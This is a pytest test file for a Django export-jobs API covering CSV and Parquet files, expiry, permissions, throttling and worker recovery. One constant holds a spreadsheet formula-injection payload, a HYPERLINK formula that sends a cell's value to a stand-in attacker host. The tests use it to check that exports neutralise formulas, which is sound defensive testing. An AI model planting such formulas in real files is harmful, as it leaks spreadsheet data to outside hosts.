"""Issue 13: export jobs. POST /api/v1/exports/ -> 202; a Celery task (eager here) writes the file with COPY;
GET /api/v1/exports/{id}/ reports status, rows, size and SHA-256; files expire; anonymous jobs hold published
rows only."""

import csv
import datetime
import hashlib
import io
import os

import pyarrow.parquet as pq
import pytest
from django.utils import timezone
from django_celery_beat.models import PeriodicTask

from exports import services
from exports.models import ExportJob, ExportStatus
from exports.tasks import sweep_exports
from scorecards.models import Scorecard
from tests.factories import ReportFactory
from tests.scorecards.factories import scorecard

from .conftest import client_with_token, verified_report

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1, "Click")'


@pytest.fixture(autouse=True)
def exports_dir(settings, tmp_path):
    settings.EXPORTS_DIR = tmp_path / "exports"
    return settings.EXPORTS_DIR


@pytest.fixture
def reports(reporter, other_reporter, austria, belgium, elections, media):
    return {
        "at": verified_report(state=austria, commitment=elections, summary=HYPERLINK),
        "be": verified_report(state=belgium, commitment=media, violation=True, summary='Said "no",\nthen yes.'),
        "draft": ReportFactory(state=austria, commitment=elections, created_by=reporter),
        "submitted": ReportFactory(state=austria, commitment=media, created_by=other_reporter, submitted=True),
    }


@pytest.fixture
def run_jobs(django_capture_on_commit_callbacks):
    """`run_jobs(client.post(...))`: the POST, with the task it queues on commit run (Celery is eager in tests)."""

    def post(client, body):
        with django_capture_on_commit_callbacks(execute=True):
            response = client.post("/api/v1/exports/", body, format="json")
        return response

    return post


def job_body(**overrides):
    return {"resource": "reports", "filters": {}, "format": "csv", **overrides}


def download(client, job_id):
    response = client.get(f"/api/v1/exports/{job_id}/download/")
    assert response.status_code == 200, response.content
    return b"".join(response.streaming_content)


def rows_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode())))


def test_creating_a_job_answers_202_with_its_id_and_where_to_follow_it(anon, reports):
    response = anon.post("/api/v1/exports/", job_body(filters={"state": "AT"}), format="json")

    assert response.status_code == 202
    job = ExportJob.objects.get(pk=response.json()["id"])
    assert (job.status, job.resource, job.filters, job.requested_by) == ("queued", "reports", {"state": "AT"}, None)
    assert response["Location"] == response.json()["url"] == f"http://testserver/api/v1/exports/{job.pk}/"


def test_a_finished_job_gives_rows_size_and_the_sha256_of_its_file(anon, reports, run_jobs, exports_dir):
    job_id = run_jobs(anon, job_body()).json()["id"]

    status = anon.get(f"/api/v1/exports/{job_id}/").json()
    content = (exports_dir / f"{job_id}.csv").read_bytes()
    assert status["status"] == "done"
    assert status["row_count"] == 2
    assert status["byte_size"] == len(content)
    assert status["sha256"] == hashlib.sha256(content).hexdigest()
    assert status["download_url"] == f"http://testserver/api/v1/exports/{job_id}/download/"
    assert download(anon, job_id) == content


def test_download_equals_the_synchronous_csv_for_the_same_filters(reporter_client, reports, run_jobs):
    job_id = run_jobs(reporter_client, job_body(filters={"state": "AT"})).json()["id"]

    streamed = reporter_client.get("/api/v1/reports/", {"format": "csv", "state": "AT"})
    assert download(reporter_client, job_id) == b"".join(streamed.streaming_content)


def test_anonymous_job_exports_only_published_reports(anon, reports, run_jobs):
    job_id = run_jobs(anon, job_body()).json()["id"]

    header, *rows = rows_of(download(anon, job_id))
    assert {row[0] for row in rows} == {str(reports["at"].pk), str(reports["be"].pk)}
    assert {row[header.index("status")] for row in rows} == {"verified"}


def test_a_reporters_job_includes_their_own_draft_but_not_others_submissions(reporter_client, reports, run_jobs):
    job_id = run_jobs(reporter_client, job_body()).json()["id"]

    ids = {row[0] for row in rows_of(download(reporter_client, job_id))[1:]}
    assert str(reports["draft"].pk) in ids
    assert str(reports["submitted"].pk) not in ids


def test_the_file_neutralises_formulas_and_keeps_quotes_and_newlines(anon, reports, run_jobs):
    job_id = run_jobs(anon, job_body()).json()["id"]

    header, *rows = rows_of(download(anon, job_id))
    summaries = {row[0]: row[header.index("summary")] for row in rows}
    assert summaries[str(reports["at"].pk)] == "'" + HYPERLINK
    assert summaries[str(reports["be"].pk)] == 'Said "no",\nthen yes.'


def test_another_user_cannot_read_or_download_someones_job(
    reporter_client, other_reporter_client, anon, reports, run_jobs
):
    job_id = run_jobs(reporter_client, job_body()).json()["id"]

    for client in (other_reporter_client, anon):
        assert client.get(f"/api/v1/exports/{job_id}/").status_code == 404
        assert client.get(f"/api/v1/exports/{job_id}/download/").status_code == 404


def test_an_anonymous_job_is_read_by_whoever_holds_its_id(anon, other_reporter_client, reports, run_jobs):
    job_id = run_jobs(anon, job_body()).json()["id"]

    assert other_reporter_client.get(f"/api/v1/exports/{job_id}/").json()["status"] == "done"


def test_an_unknown_filter_is_a_400_naming_it(anon, reports):
    response = anon.post("/api/v1/exports/", job_body(filters={"country": "AT"}), format="json")

    assert response.status_code == 400
    assert list(response.json()["filters"]) == ["country"]
    assert ExportJob.objects.count() == 0


def test_a_refused_filter_value_is_a_400_naming_the_filter(anon, reports):
    response = anon.post("/api/v1/exports/", job_body(filters={"state": "XX", "kind": "rumour"}), format="json")

    assert response.status_code == 400
    assert set(response.json()["filters"]) == {"state", "kind"}


@pytest.mark.parametrize("body", [job_body(format="xlsx"), job_body(resource="users"), job_body(filters=["AT"])])
def test_a_bad_format_resource_or_filters_shape_is_a_400_naming_it(anon, reports, body):
    response = anon.post("/api/v1/exports/", body, format="json")

    assert response.status_code == 400
    (field,) = response.json()
    assert field in {"format", "resource", "filters"}
    assert body[field] != job_body()[field]


def test_download_before_the_job_ran_is_a_409(anon, reports):
    job_id = anon.post("/api/v1/exports/", job_body(), format="json").json()["id"]

    response = anon.get(f"/api/v1/exports/{job_id}/download/")

    assert response.status_code == 409
    assert "queued" in response.json()["detail"]


def test_a_job_past_its_expiry_says_expired_and_its_download_is_410(anon, reports, run_jobs):
    job_id = run_jobs(anon, job_body()).json()["id"]
    ExportJob.objects.filter(pk=job_id).update(expires_at=timezone.now() - datetime.timedelta(seconds=1))

    body = anon.get(f"/api/v1/exports/{job_id}/").json()
    assert (body["status"], body["download_url"]) == ("expired", None)
    assert anon.get(f"/api/v1/exports/{job_id}/download/").status_code == 410


def test_files_expire_after_the_configured_days(anon, reports, run_jobs, settings, exports_dir):
    settings.EXPORTS_EXPIRE_DAYS = 3
    job_id = run_jobs(anon, job_body()).json()["id"]
    job = ExportJob.objects.get(pk=job_id)
    assert job.expires_at == job.finished_at + datetime.timedelta(days=3)

    assert services.export_jobs_expire(now=job.expires_at - datetime.timedelta(seconds=1)) == 0
    assert (exports_dir / f"{job_id}.csv").exists()
    assert services.export_jobs_expire(now=job.expires_at) == 1

    job.refresh_from_db()
    assert job.status == ExportStatus.EXPIRED
    assert not (exports_dir / f"{job_id}.csv").exists()
    assert services.export_jobs_expire(now=job.expires_at) == 0


def test_the_sweep_is_on_the_beat_schedule(db):
    task = PeriodicTask.objects.get(name="Sweep export files")

    assert (task.task, task.enabled, task.crontab.hour) == ("exports.tasks.sweep_exports", True, "*")


def test_running_a_finished_job_again_does_nothing(anon, reports, run_jobs, exports_dir):
    job_id = run_jobs(anon, job_body()).json()["id"]
    before = ExportJob.objects.get(pk=job_id)
    (exports_dir / f"{job_id}.csv").write_bytes(b"kept")

    assert services.export_job_run(job_id=job_id) == "not-claimed"
    assert ExportJob.objects.get(pk=job_id).finished_at == before.finished_at
    assert (exports_dir / f"{job_id}.csv").read_bytes() == b"kept"


def test_a_job_whose_worker_died_runs_again_once_its_claim_is_stale(anon, reports, settings):
    job_id = anon.post("/api/v1/exports/", job_body(), format="json").json()["id"]
    died_at = timezone.now() - datetime.timedelta(seconds=settings.CELERY_TASK_TIME_LIMIT - 60)
    ExportJob.objects.filter(pk=job_id).update(status=ExportStatus.RUNNING, started_at=died_at)

    assert services.export_job_run(job_id=job_id) == "not-claimed"  # its worker may still be running it
    ExportJob.objects.filter(pk=job_id).update(started_at=died_at - datetime.timedelta(seconds=120))
    assert services.export_job_run(job_id=job_id) == "done"
    assert ExportJob.objects.get(pk=job_id).row_count == 2


def test_a_parquet_job_holds_the_same_rows_typed(anon, reports, run_jobs, exports_dir):
    job_id = run_jobs(anon, job_body(format="parquet")).json()["id"]

    job = ExportJob.objects.get(pk=job_id)
    content = (exports_dir / f"{job_id}.parquet").read_bytes()
    assert (job.status, job.row_count, job.sha256) == ("done", 2, hashlib.sha256(content).hexdigest())
    table = pq.read_table(io.BytesIO(download(anon, job_id)))
    assert table.column("id").to_pylist() == [reports["be"].pk, reports["at"].pk]
    assert table.column("observed_on").to_pylist() == [datetime.date(2010, 5, 4)] * 2
    assert table.column("summary").to_pylist()[1] == "'" + HYPERLINK


def test_a_scorecards_job_takes_the_method_and_the_list_filters(anon, austria, belgium, human, run_jobs):
    scorecard(austria, "2010-Q2", human, score=40, trend=-3.5)
    scorecard(belgium, "2010-Q2", human, score=60)

    job_id = run_jobs(anon, {"resource": "scorecards", "filters": {"state": "AT", "method": "2"}}).json()["id"]

    header, *rows = rows_of(download(anon, job_id))
    assert [(row[header.index("state")], row[header.index("trend")]) for row in rows] == [("AT", "-3.5")]


def test_a_scorecards_job_for_an_unknown_method_is_a_400_naming_it(anon, reports):
    response = anon.post("/api/v1/exports/", {"resource": "scorecards", "filters": {"method": "7"}}, format="json")

    assert response.status_code == 400
    assert list(response.json()["filters"]) == ["method"]


def test_creating_jobs_is_throttled_per_client(anon, reports, settings, monkeypatch):
    from rest_framework.throttling import SimpleRateThrottle

    monkeypatch.setattr(
        SimpleRateThrottle, "THROTTLE_RATES", {**SimpleRateThrottle.THROTTLE_RATES, "exports": "2/hour"}
    )

    statuses = [anon.post("/api/v1/exports/", job_body(), format="json").status_code for _ in range(3)]

    assert statuses == [202, 202, 429]
    assert anon.get("/api/v1/reports/").status_code == 200


def test_a_signed_in_users_job_is_theirs(reporter, reports):
    response = client_with_token(reporter).post("/api/v1/exports/", job_body(), format="json")

    assert ExportJob.objects.get(pk=response.json()["id"]).requested_by == reporter


def test_the_sweep_queues_again_a_job_whose_worker_died(anon, reports, settings, django_capture_on_commit_callbacks):
    job_id = anon.post("/api/v1/exports/", job_body(), format="json").json()["id"]
    died_at = timezone.now() - datetime.timedelta(seconds=settings.CELERY_TASK_TIME_LIMIT + 60)
    ExportJob.objects.filter(pk=job_id).update(status=ExportStatus.RUNNING, started_at=died_at)

    with django_capture_on_commit_callbacks(execute=True):
        outcome = sweep_exports()

    assert outcome == {"expired": 0, "requeued": [job_id]}
    assert ExportJob.objects.get(pk=job_id).status == ExportStatus.DONE


def test_the_sweep_removes_temporary_files_left_by_a_dead_worker_only(db, exports_dir, settings):
    exports_dir.mkdir(parents=True)
    abandoned, in_progress = exports_dir / ".abc-1.part", exports_dir / ".def-2.part"
    abandoned.write_bytes(b"half")
    in_progress.write_bytes(b"half")
    long_ago = (timezone.now() - datetime.timedelta(seconds=settings.CELERY_TASK_TIME_LIMIT + 60)).timestamp()
    os.utime(abandoned, (long_ago, long_ago))

    services.export_jobs_expire()

    assert (abandoned.exists(), in_progress.exists()) == (False, True)


def test_a_scorecards_parquet_job_keeps_decimals_missing_values_and_timestamps(anon, austria, belgium, human, run_jobs):
    scorecard(austria, "2010-Q2", human, score=40, trend=-3.5)
    scorecard(belgium, "2010-Q2", human, score=60)

    job_id = run_jobs(anon, {"resource": "scorecards", "format": "parquet"}).json()["id"]

    table = pq.read_table(io.BytesIO(download(anon, job_id)))
    stored = list(Scorecard.objects.order_by("state_id").values_list("state_id", "score", "trend", "computed_at"))
    columns = [table.column(name).to_pylist() for name in ["state", "score", "trend", "computed_at"]]
    assert list(zip(*columns, strict=True)) == stored
    assert stored[1][2] is None


@pytest.mark.parametrize("file_format", ["csv", "parquet"])
def test_an_export_of_no_rows_is_a_file_with_the_columns_only(anon, reports, run_jobs, file_format):
    job_id = run_jobs(anon, job_body(filters={"state": "AT", "kind": "violation"}, format=file_format)).json()["id"]

    content = download(anon, job_id)
    assert ExportJob.objects.get(pk=job_id).row_count == 0
    if file_format == "csv":
        assert rows_of(content) == [rows_of(content)[0]]
    else:
        assert pq.read_table(io.BytesIO(content)).num_rows == 0


def test_staff_see_jobs_read_only_in_the_admin(client, admin_user, anon, reports):
    job_id = anon.post("/api/v1/exports/", job_body(), format="json").json()["id"]
    client.force_login(admin_user)

    assert job_id in client.get("/admin/exports/exportjob/").content.decode()
    assert client.get("/admin/exports/exportjob/add/").status_code == 403
